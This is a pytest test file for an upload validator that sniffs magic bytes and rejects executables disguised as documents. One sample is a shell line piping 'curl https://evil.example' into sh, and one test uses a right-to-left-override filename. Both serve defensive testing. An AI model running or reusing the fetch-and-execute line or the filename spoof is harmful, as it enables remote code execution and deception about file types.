"""Content sniffing: a file's first bytes must be what its extension says, and no program."""

from __future__ import annotations

import pytest

from domain.errors import UserInputError
from domain.evidence import ALLOWED_EXTENSIONS, SNIFF_BYTES, check_file_content

ZIP = b"PK\x03\x04\x14\x00\x06\x00\x08\x00"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1\x00\x00"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01"
ASF = b"\x30\x26\xb2\x75\x8e\x66\xcf\x11\xa6\xd9\x00\xaa\x00\x62\xce\x6c"

# A genuine start for every allowed extension.
GENUINE: dict[str, bytes] = {
    "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
    "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
    "jpg": JPEG,
    "jpeg": JPEG,
    "jpe": JPEG,
    "jfif": JPEG,
    "gif": b"GIF89a\x01\x00\x01\x00",
    "tif": b"II*\x00\x08\x00\x00\x00",
    "tiff": b"MM\x00*\x00\x00\x00\x08",
    "bmp": b"BM6\x00\x0c\x00\x00\x00",
    "dib": b"(\x00\x00\x00\x10\x00\x00\x00",
    "docx": ZIP,
    "xlsx": ZIP,
    "pptx": ZIP,
    "xps": ZIP,
    "doc": OLE,
    "xls": OLE,
    "ppt": OLE,
    "msg": OLE,
    "rtf": b"{\\rtf1\\ansi\\deff0",
    "psd": b"8BPS\x00\x01\x00\x00",
    "wmv": ASF + b"\x00" * 8,
    "wma": ASF + b"\x00" * 8,
    "csv": "Campagne;Montant\nPrintemps;1 234,56 €\n".encode(),
    "htm": b"<!DOCTYPE html><html><body>Invitation</body></html>",
    "html": b"\xef\xbb\xbf<html lang='fr'><body>Programme</body></html>",
    "mht": b"MIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n",
}

PROGRAMS: dict[str, bytes] = {
    "windows_exe": b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff",
    "linux_elf": b"\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00",
    "shell_script": b"#!/bin/sh\ncurl https://evil.example | sh\n",
    "script_after_blanks": b"\n\n  #!/usr/bin/env python3\nimport os\n",
    "mach_o": b"\xcf\xfa\xed\xfe\x07\x00\x00\x01\x03\x00\x00\x00",
    "java_or_fat_mach_o": b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
}


def test_every_allowed_extension_has_a_genuine_sample() -> None:
    assert set(GENUINE) == ALLOWED_EXTENSIONS


@pytest.mark.parametrize("extension", sorted(GENUINE))
def test_a_genuine_file_of_each_type_is_accepted(extension: str) -> None:
    check_file_content(f"evidence.{extension}", GENUINE[extension] + b"more\n" * 10)
    check_file_content(f"EVIDENCE.{extension.upper()}", GENUINE[extension])


@pytest.mark.parametrize("program", sorted(PROGRAMS))
@pytest.mark.parametrize("extension", ["pdf", "docx", "jpg", "csv", "html"])
def test_a_program_is_refused_whatever_its_name_says(program: str, extension: str) -> None:
    with pytest.raises(UserInputError) as refused:
        check_file_content(f"invoice.{extension}", PROGRAMS[program] + b"\x00" * 64)
    assert refused.value.code in ("file_executable", "file_content_mismatch")
    if extension == "pdf" or program in ("windows_exe", "linux_elf", "shell_script"):
        assert refused.value.code == "file_executable"
        assert refused.value.params == {"name": f"invoice.{extension}"}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("invoice.pdf", GENUINE["png"]),
        ("photo.jpg", GENUINE["pdf"]),
        ("photo.png", JPEG),
        ("slides.pptx", OLE),  # an old .ppt renamed
        ("offer.doc", ZIP),  # a .docx renamed
        ("sheet.xlsx", b"Campaign,Amount\n"),
        ("notes.rtf", b"Just text\n"),
        ("clip.wmv", GENUINE["gif"]),
        ("table.csv", b"a,b\x00\x01\x02\x03"),  # binary
        ("page.html", b"\x00\x01\x02\x03\x04\x05"),
        ("invoice.pdf", b"<html>%PDF-1.4 is only in this text</html>"[:3]),
    ],
)
def test_content_that_does_not_match_the_extension_is_refused(name: str, content: str) -> None:
    with pytest.raises(UserInputError) as refused:
        check_file_content(name, content)
    assert refused.value.code == "file_content_mismatch"
    assert refused.value.params["name"] == name
    assert refused.value.params["type"] == name.rsplit(".", 1)[1].upper()


def test_text_that_merely_starts_like_a_program_header_is_text() -> None:
    check_file_content("countries.csv", b"MZ,Mozambique\nFR,France\n")


def test_a_pdf_header_may_follow_some_junk_within_the_first_kilobyte() -> None:
    check_file_content("invoice.pdf", b"\r\n" * 100 + b"%PDF-1.4")
    with pytest.raises(UserInputError):
        check_file_content("invoice.pdf", b" " * SNIFF_BYTES + b"%PDF-1.4")


def test_an_extension_off_the_list_is_refused_even_with_good_content() -> None:
    with pytest.raises(UserInputError) as refused:
        check_file_content("tool.exe", GENUINE["pdf"])
    assert refused.value.code == "file_type_not_allowed"


def test_names_are_shown_without_invisible_characters() -> None:
    with pytest.raises(UserInputError) as refused:
        check_file_content("in\u202evoice.pdf", PROGRAMS["windows_exe"])
    assert refused.value.params["name"] == "in?voice.pdf"
